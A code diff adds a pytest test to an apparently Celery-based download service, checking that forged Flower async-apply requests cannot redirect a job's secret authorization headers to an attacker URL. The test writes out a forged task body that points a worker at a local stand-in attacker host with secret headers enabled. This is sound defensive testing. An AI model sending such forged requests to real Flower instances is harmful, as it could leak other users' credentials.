@@ -81,3 +81,29 @@ def test_flower_requires_credentials_and_shows_workers_and_redacted_failures(clu
 
     workers = requests.get(f"{flower}/api/workers?refresh=1", auth=AUTH, timeout=20).json()
     assert any(name.startswith("w1@") for name in workers)
+
+
+def test_a_flower_user_cannot_send_a_jobs_secrets_to_another_url(cluster, worker, flower, origin, tmp_path):
+    """Flower's async-apply is a broker user's message: naming a job only points at one of its URLs."""
+    from tests.support.origin import Origin
+
+    origin.add("/private.txt", b"private")
+    listing = write_list(tmp_path / "urls.txt", [origin.url("/private.txt")])
+    result = cluster.producer(str(listing), "-d", "flower-forged", "-H", "Authorization: Bearer flower-s3cret")
+    assert result.returncode == 0, result.stdout + result.stderr
+    job = job_id_of(result.stdout)
+    with Origin("127.0.0.1").start() as attacker:
+        attacker.add("/steal", b"x")
+        for index in (0, 1):
+            body = {"args": [attacker.url("/steal"), "stolen.txt"],
+                    "kwargs": {"job": job, "index": index, "opts": {"secret_headers": True}}}
+            sent = requests.post(f"{flower}/api/task/async-apply/fleetfetch.download", json=body, auth=AUTH, timeout=10)
+            assert sent.status_code == 200, sent.text
+        deadline = time.monotonic() + 20
+        while f"job {job} has no URL #1" not in worker.log_text() and time.monotonic() < deadline:
+            time.sleep(0.2)
+        assert f"job {job} has no URL #1" in worker.log_text()
+        time.sleep(0.5)
+        assert attacker.requests == []
+    assert len(origin.requests_for("/private.txt")) == 1
+    assert not (cluster.downloads / "flower-forged" / "stolen.txt").exists()
